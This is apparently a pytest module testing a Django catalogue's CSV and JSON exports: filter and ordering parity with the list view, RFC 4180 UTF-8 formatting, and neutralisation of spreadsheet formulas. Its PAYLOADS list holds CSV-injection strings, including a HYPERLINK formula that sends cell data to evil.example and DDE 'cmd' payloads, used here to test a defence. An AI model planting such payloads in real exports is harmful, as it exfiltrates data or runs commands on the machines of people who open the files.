"""The CSV export, /initiatives/export.csv: the exports select exactly what the list
shows, in its order, and the CSV is RFC 4180 UTF-8 with every field intact and formulas
neutralised."""

import codecs
import csv
import io
import json
import re
from datetime import UTC, datetime

import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from catalogue import exports
from catalogue.filters import SORTS
from catalogue.models import (
    Barrier,
    Driver,
    Initiative,
    Organisation,
    Outcome,
    Sector,
    Theme,
)
from tests.factories import (
    InitiativeFactory,
    MetricFactory,
    OrganisationFactory,
    PartnershipFactory,
    SourceFactory,
    term,
)
from tests.hostile import DANGEROUS
from tests.outputs_support import (
    COUNTRIES,
    CSV,
    JSON,
    NASTY,
    WORDS,
)
from tests.readers import csv_records, csv_rows, json_document, listed

pytestmark = pytest.mark.django_db

# -- the exports select exactly what the list shows -------------------------------------------


def pick(values):
    return st.lists(st.sampled_from(values), max_size=3)


@hypothesis_settings(
    max_examples=40,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(data=st.data())
def test_exports_hold_the_lists_records_in_its_order(
    client, settings, vocabulary, varied_catalogue, data
):
    settings.CATALOGUE_PAGE_SIZE = 4  # so that "all pages, not one" is tested
    year = st.one_of(st.integers(1995, 2030).map(str), st.just("abc"))
    query = data.draw(
        st.fixed_dictionaries(
            {},
            optional={
                "theme": pick([*vocabulary["theme"], "no-such-theme"]),
                "driver": pick(vocabulary["driver"]),
                "outcome": pick(vocabulary["outcome"]),
                "barrier": pick(vocabulary["barrier"]),
                "sector": pick([*vocabulary["sector"], "nowhere"]),
                "stage": pick([*Initiative.Stage.values, "later"]),
                "country": pick([*COUNTRIES, "gb", "ZZ"]),
                "kind": pick(Organisation.Kind.values),
                "year_from": year,
                "year_to": year,
                "q": st.sampled_from([*WORDS, "-housing", '"open data"', "bins or health", "é"]),
                "sort": st.sampled_from([*SORTS, "nonsense"]),
                "page": st.sampled_from(["1", "2", "99", "abc"]),
            },
        )
    )
    total, slugs, problems = listed(client, query)
    assert len(slugs) == total

    response = client.get(CSV, query)
    rows = csv_records(response)
    assert [row["slug"] for row in rows] == slugs
    assert response["X-Result-Count"] == str(total)
    assert json.loads(response["X-Filter-Problems"]) == problems

    document = json_document(client.get(JSON, query))
    assert document["count"] == total
    assert [record["slug"] for record in document["initiatives"]] == slugs
    assert document["problems"] == problems
    assert "page" not in document["query"]


def test_filters_narrow_the_export_as_the_data_says(client, varied_catalogue):
    """The comparison above holds whatever the list does; here the answer is known."""
    cloud = {i.slug for i in varied_catalogue if "cloud" in {t.slug for t in i.themes.all()}}
    in_estonia = {
        i.slug for i in varied_catalogue if "EE" in {p.country.code for p in i.places.all()}
    }
    assert 0 < len(cloud) < len(varied_catalogue)
    assert {row["slug"] for row in csv_records(client.get(CSV, {"theme": "cloud"}))} == cloud
    both = csv_records(client.get(CSV, {"theme": "cloud", "country": "ee"}))
    assert {row["slug"] for row in both} == cloud & in_estonia
    everything = csv_records(client.get(CSV, {"page": "3"}))
    newest_first = sorted(
        varied_catalogue, key=lambda i: (-i.published_at.timestamp(), i.title, i.pk)
    )
    assert [row["slug"] for row in everything] == [i.slug for i in newest_first]


# -- CSV format -------------------------------------------------------------------------------


def test_csv_is_rfc_4180_utf8_with_a_bom_and_every_field_intact(client, detailed):
    response = client.get(CSV)
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert re.fullmatch(
        r'attachment; filename="case-studies-\d{4}-\d{2}-\d{2}\.csv"',
        response["Content-Disposition"],
    )
    raw = b"".join(response.streaming_content)
    assert raw.startswith(
        codecs.BOM_UTF8 + b"slug,title,summary,challenge,approach,results,lessons,url,"
    )
    text = raw.decode("utf-8-sig")
    assert text.split("\r\n")[0] == ",".join(exports.COLUMNS)
    assert text.endswith("\r\n")
    [record] = [dict(zip(exports.COLUMNS, row, strict=True)) for row in csv_rows_of(text)]
    published = detailed.published_at.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    assert record == {
        "slug": detailed.slug,
        "title": NASTY,
        "summary": f"Summary: {NASTY}",
        **{part: getattr(detailed, part) for part in exports.NARRATIVE},
        "url": f"http://testserver/initiatives/{detailed.slug}/",
        "lead_organisation": 'Council of "A, B"; C\\D',
        "lead_organisation_kind": "Combined authority",
        "partners": "Ąb (Delivery partner); Ünïcode\\; Ltd (Funder)",
        "sector": "General public services",
        "stage": "Pilot",
        "themes": "Cloud; Open data",
        "drivers": "Technology",
        "outcomes": "Service quality",
        "barriers": "Funding",
        "countries": "EE; GB",
        "places": "Estonia; United Kingdom; London, United Kingdom",
        "start_year": "2019",
        "end_year": "2021",
        "evidence_level": "3: causal impact shown",
        "innovation_type": "Mission-oriented",
        "collaboration": "GovTech",
        "funding": "EU funding",
        "website": "https://example.org/a,b",
        "metrics": (
            'Costs, admin: -12.5% decrease, compared with 2019, over 2 years, source: Report "X", '
            "part 1, passage: “Costs fell by 12.5%\\; see p. 4”"
        ),
        "sources": 'Report "X", part 1, Ann, Pub, 2024-03-01 <https://example.org/r?a=1&b=2>',
        "quotes": '“Costs fell by 12.5%\\; see p. 4” (page 4), from Report "X", part 1',
        "first_published": published,
        "last_updated": record["last_updated"],
    }
    assert datetime.fromisoformat(record["last_updated"]) >= detailed.published_at.replace(
        microsecond=0
    )
    assert exports.split_items(record["partners"]) == [
        "Ąb (Delivery partner)",
        "Ünïcode; Ltd (Funder)",
    ]


def csv_rows_of(text):
    header, *rows = csv.reader(io.StringIO(text, newline=""))
    assert header == exports.COLUMNS
    return rows


@pytest.mark.parametrize(
    "items",
    [[], ["one"], ["a; b", "c\\d", "e\\; f", "\\", ";", " leading space", "trailing\\"]],
)
def test_list_cells_split_back_into_their_items(items):
    cell = exports.SEPARATOR.join(exports.escape_item(item) for item in items)
    assert exports.split_items(cell) == items


PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tx",
    "\rx",
    "'=quoted already",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_neutralises_formulas_in_every_cell(client, payload):
    """Every text a user can set starts with the payload; no cell may start a formula."""
    for model, slug in [(Theme, "cloud"), (Driver, "crisis"), (Outcome, "cost-savings")]:
        renamed = term(model, slug)
        renamed.name = f"{payload} {model.__name__}"
        renamed.save()
    barrier = term(Barrier, "funding")
    barrier.name = payload
    barrier.save()
    sector = term(Sector, "health")
    sector.name = f"{payload} sector"
    sector.save()
    initiative = InitiativeFactory(
        slug="-1-1",
        title=payload,
        summary=f"{payload} summary",
        lead_organisation=OrganisationFactory(name=f"{payload} lead"),
        themes=["cloud"],
        drivers=["crisis"],
        outcomes=["cost-savings"],
        barriers=["funding"],
        sector=sector,
        website=f"{payload}website",
        source=False,
    )
    PartnershipFactory(initiative=initiative, organisation=OrganisationFactory(name=payload))
    MetricFactory(initiative=initiative, label=payload)
    SourceFactory(initiative=initiative, title=payload, url="")

    [row] = csv_rows(client.get(CSV))[1:]
    [record] = json_document(client.get(JSON))["initiatives"]
    injected = {
        "slug", "title", "summary", "lead_organisation", "partners", "sector", "themes",
        "drivers", "outcomes", "barriers", "metrics", "sources",
    }  # fmt: skip
    # The website is not an http(s) link, so no output gives it (as the API does not).
    assert row[exports.COLUMNS.index("website")] == "" and record["website"] is None
    for column, cell in zip(exports.COLUMNS, row, strict=True):
        assert not cell.startswith(DANGEROUS), (column, cell)
        if column in injected:
            assert cell.startswith("'"), column
            # Reversible: one apostrophe off gives the value back.
            value = record[column]
            if isinstance(value, str):
                assert cell[1:] == value, column
